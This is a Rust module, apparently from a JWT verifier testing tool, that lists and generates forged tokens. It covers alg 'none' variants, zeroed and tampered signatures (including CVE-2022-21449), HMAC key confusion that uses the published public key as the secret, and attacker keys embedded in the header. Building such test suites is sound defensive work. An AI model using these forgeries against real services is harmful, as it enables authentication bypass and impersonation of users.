//! The catalogue of forged tokens, as data, and how each is made from a valid one. Pure: keys and tokens are
//! arguments. Must not know operations or HTTP.
#![deny(clippy::disallowed_methods, clippy::disallowed_types)]

use aws_lc_rs::hmac;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Map, Value, json};

use super::{Mint, der};

/// One way to forge a token.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Forgery {
    /// Stable name, part of case ids.
    pub name: &'static str,
    /// The check that it belongs to.
    pub check: &'static str,
    /// Whether it is tried on every operation.
    pub canary: bool,
    /// What is done.
    pub make: Make,
}

/// What is done to a valid token.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Make {
    /// An `alg` that means no signature (RFC 8725 §2.1), and what becomes of the old one.
    Unsigned(Algorithm, Tail),
    /// Another signature under the same header.
    Signature(Damage),
    /// HMAC with something public as secret (RFC 8725 §2.1).
    Hmac(&'static str, PublicSecret),
    /// Signed by a key that the token itself brings (RFC 8725 §2.3; RFC 7515 §4.1.3), with or without the old `kid`.
    EmbeddedKey(KeyId),
    /// Minted by the provider with another key under the published `kid`.
    OtherKey,
    /// Minted by the provider with an `exp` in the past (RFC 7519 §4.1.4).
    Expired,
}

/// What the header says about the algorithm.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Algorithm {
    /// This text.
    Named(&'static str),
    /// `null`.
    Null,
    /// Nothing.
    Missing,
}

/// What follows the payload.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Tail {
    /// A dot and nothing.
    Empty,
    /// The old signature.
    Old,
    /// Nothing at all: two segments.
    Nothing,
}

/// How a signature is wrong.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Damage {
    /// It is empty.
    Removed,
    /// All bytes zero; for ES256 that is r = s = 0 (CVE-2022-21449).
    Zeroed,
    /// Its first half.
    Halved,
    /// One bit differs.
    BitFlipped,
    /// It is another token's.
    OfAnother,
}

/// Something public that a verifier may take for a secret.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum PublicSecret {
    /// The published key as PEM, newline at the end.
    Pem,
    /// The same without that newline.
    PemTrimmed,
    /// The published key as DER.
    Der,
    /// The published key as it stands in the JWKS.
    Jwk,
    /// Nothing.
    Empty,
}

/// Whether the published `kid` stays in the header.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum KeyId {
    /// It stays.
    Kept,
    /// It goes.
    Dropped,
}

/// What a forgery is made of.
pub struct Materials<'a> {
    /// A valid token.
    pub token: &'a str,
    /// A valid token of somebody else.
    pub other: &'a str,
    /// The published keys, each as the text in the JWKS.
    pub published: &'a [String],
    /// The attacker's key.
    pub attacker: &'a dyn Signer,
}

/// An ES256 key of the attacker.
pub trait Signer: Send + Sync {
    /// The public half.
    fn jwk(&self) -> Value;
    /// An ES256 signature (RFC 7518 §3.4).
    fn sign(&self, message: &[u8]) -> Vec<u8>;
}

const fn entry(name: &'static str, check: &'static str, make: Make) -> Forgery {
    Forgery { name, check, canary: false, make }
}

const fn canary(name: &'static str, check: &'static str, make: Make) -> Forgery {
    Forgery { name, check, canary: true, make }
}

use Algorithm::{Missing, Named, Null};

const UNSIGNED: &str = "unsigned-token";
const IGNORED: &str = "ignored-signature";
const CONFUSION: &str = "key-confusion";
const EMBEDDED: &str = "embedded-key";
const EXPIRED: &str = "expired-token";

/// All of them.
pub static CATALOGUE: &[Forgery] = &[
    canary("alg-none", UNSIGNED, Make::Unsigned(Named("none"), Tail::Empty)),
    entry("alg-None", UNSIGNED, Make::Unsigned(Named("None"), Tail::Empty)),
    entry("alg-NONE", UNSIGNED, Make::Unsigned(Named("NONE"), Tail::Empty)),
    entry("alg-nOnE", UNSIGNED, Make::Unsigned(Named("nOnE"), Tail::Empty)),
    entry("alg-none-signed", UNSIGNED, Make::Unsigned(Named("none"), Tail::Old)),
    entry("alg-None-signed", UNSIGNED, Make::Unsigned(Named("None"), Tail::Old)),
    entry("alg-NONE-signed", UNSIGNED, Make::Unsigned(Named("NONE"), Tail::Old)),
    entry("alg-nOnE-signed", UNSIGNED, Make::Unsigned(Named("nOnE"), Tail::Old)),
    entry("two-segments", UNSIGNED, Make::Unsigned(Named("none"), Tail::Nothing)),
    entry("alg-empty", UNSIGNED, Make::Unsigned(Named(""), Tail::Empty)),
    entry("alg-null", UNSIGNED, Make::Unsigned(Null, Tail::Empty)),
    entry("alg-missing", UNSIGNED, Make::Unsigned(Missing, Tail::Empty)),
    entry("signature-removed", IGNORED, Make::Signature(Damage::Removed)),
    entry("signature-zeroed", IGNORED, Make::Signature(Damage::Zeroed)),
    entry("signature-halved", IGNORED, Make::Signature(Damage::Halved)),
    canary("signature-bit-flipped", IGNORED, Make::Signature(Damage::BitFlipped)),
    entry("signature-of-another", IGNORED, Make::Signature(Damage::OfAnother)),
    canary("other-key", IGNORED, Make::OtherKey),
    canary("hs256-pem", CONFUSION, Make::Hmac("HS256", PublicSecret::Pem)),
    entry("hs256-pem-trimmed", CONFUSION, Make::Hmac("HS256", PublicSecret::PemTrimmed)),
    entry("hs256-der", CONFUSION, Make::Hmac("HS256", PublicSecret::Der)),
    entry("hs256-jwk", CONFUSION, Make::Hmac("HS256", PublicSecret::Jwk)),
    entry("hs512-pem", CONFUSION, Make::Hmac("HS512", PublicSecret::Pem)),
    entry("hs256-empty", CONFUSION, Make::Hmac("HS256", PublicSecret::Empty)),
    canary("jwk-header", EMBEDDED, Make::EmbeddedKey(KeyId::Dropped)),
    entry("jwk-header-kid", EMBEDDED, Make::EmbeddedKey(KeyId::Kept)),
    canary("expired", EXPIRED, Make::Expired),
];

/// One entry by name.
#[must_use]
pub fn by_name(name: &str) -> Option<&'static Forgery> {
    CATALOGUE.iter().find(|forgery| forgery.name == name)
}

impl Forgery {
    /// How the provider mints it, for those that the provider mints.
    #[must_use]
    pub fn mint(&self) -> Option<Mint> {
        match self.make {
            Make::OtherKey => Some(Mint { name: self.name, other_key: true, ..Mint::default() }),
            // One hour: more than any leeway for clocks.
            Make::Expired => Some(Mint { name: self.name, lifetime_seconds: Some(-3600), ..Mint::default() }),
            _ => None,
        }
    }
}

/// Makes a forgery.
///
/// # Errors
/// When the token is no JWT, or the published key has no such form: then the forgery makes no sense here.
pub fn forge(forgery: &Forgery, materials: &Materials<'_>) -> Result<String, String> {
    let Some(parts) = Parts::of(materials.token) else { return Err("the token is not a JWT".to_owned()) };
    match forgery.make {
        Make::Unsigned(algorithm, tail) => Ok(unsigned(&parts, algorithm, tail)),
        Make::Signature(damage) => damaged(&parts, damage, materials.other),
        Make::Hmac(algorithm, secret) => {
            let key = public_secret(&parts, secret, materials.published)?;
            Ok(hmac_signed(&parts, algorithm, &key))
        }
        Make::EmbeddedKey(key_id) => Ok(embedded(&parts, key_id, materials.attacker)),
        Make::OtherKey | Make::Expired => Err("only the provider can mint it".to_owned()),
    }
}

/// A JWS in compact form (RFC 7515 §7.1).
struct Parts<'a> {
    header: Map<String, Value>,
    head: &'a str,
    payload: &'a str,
    signature: &'a str,
}

impl<'a> Parts<'a> {
    fn of(token: &'a str) -> Option<Self> {
        let mut segments = token.split('.');
        let (head, payload, signature) = (segments.next()?, segments.next()?, segments.next()?);
        let header = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(head).ok()?).ok()?;
        segments.next().is_none().then_some(Self { header, head, payload, signature })
    }

    /// Header and payload, to be signed, with the header changed.
    fn with_header(&self, change: impl FnOnce(&mut Map<String, Value>)) -> String {
        let mut header = self.header.clone();
        change(&mut header);
        format!("{}.{}", URL_SAFE_NO_PAD.encode(Value::Object(header).to_string()), self.payload)
    }
}

fn unsigned(parts: &Parts<'_>, algorithm: Algorithm, tail: Tail) -> String {
    let head = parts.with_header(|header| match algorithm {
        Named(name) => drop(header.insert("alg".to_owned(), json!(name))),
        Null => drop(header.insert("alg".to_owned(), Value::Null)),
        Missing => drop(header.remove("alg")),
    });
    match tail {
        Tail::Empty => format!("{head}."),
        Tail::Old => format!("{head}.{}", parts.signature),
        Tail::Nothing => head,
    }
}

fn damaged(parts: &Parts<'_>, damage: Damage, other: &str) -> Result<String, String> {
    let mut signature = URL_SAFE_NO_PAD.decode(parts.signature).map_err(|_| "the signature is not base64url")?;
    match damage {
        Damage::Removed => signature.clear(),
        Damage::Zeroed => signature.fill(0),
        Damage::Halved => signature.truncate(signature.len() / 2),
        Damage::BitFlipped => {
            let middle = signature.len() / 2;
            signature.get_mut(middle).map(|byte| *byte ^= 1).ok_or("the token has no signature")?;
        }
        Damage::OfAnother => {
            let other = Parts::of(other).ok_or("the other token is not a JWT")?;
            return Ok(format!("{}.{}.{}", parts.head, parts.payload, other.signature));
        }
    }
    Ok(format!("{}.{}.{}", parts.head, parts.payload, URL_SAFE_NO_PAD.encode(signature)))
}

fn public_secret(parts: &Parts<'_>, secret: PublicSecret, published: &[String]) -> Result<Vec<u8>, String> {
    if secret == PublicSecret::Empty {
        return Ok(Vec::new());
    }
    let parsed = published.iter().filter_map(|text| Some((text, serde_json::from_str::<Value>(text).ok()?)));
    let keys: Vec<(&String, Value)> = parsed.collect();
    let of_token = keys.iter().find(|(_, key)| key.get("kid") == parts.header.get("kid"));
    let (text, key) = of_token.or(keys.first()).ok_or("the provider publishes no key")?;
    let der = || der::public_key(key).ok_or("the published key is of an unknown kind");
    Ok(match secret {
        PublicSecret::Pem => der::pem(&der()?).into_bytes(),
        PublicSecret::PemTrimmed => der::pem(&der()?).trim_end().to_owned().into_bytes(),
        PublicSecret::Der => der()?,
        PublicSecret::Jwk => text.as_bytes().to_vec(),
        PublicSecret::Empty => Vec::new(),
    })
}

fn hmac_signed(parts: &Parts<'_>, algorithm: &str, secret: &[u8]) -> String {
    let message = parts.with_header(|header| drop(header.insert("alg".to_owned(), json!(algorithm))));
    let hash = if algorithm == "HS512" { hmac::HMAC_SHA512 } else { hmac::HMAC_SHA256 };
    let tag = hmac::sign(&hmac::Key::new(hash, secret), message.as_bytes());
    format!("{message}.{}", URL_SAFE_NO_PAD.encode(tag.as_ref()))
}

fn embedded(parts: &Parts<'_>, key_id: KeyId, attacker: &dyn Signer) -> String {
    let message = parts.with_header(|header| {
        header.insert("alg".to_owned(), json!("ES256"));
        header.insert("jwk".to_owned(), attacker.jwk());
        if key_id == KeyId::Dropped {
            header.remove("kid");
        }
    });
    format!("{message}.{}", URL_SAFE_NO_PAD.encode(attacker.sign(message.as_bytes())))
}
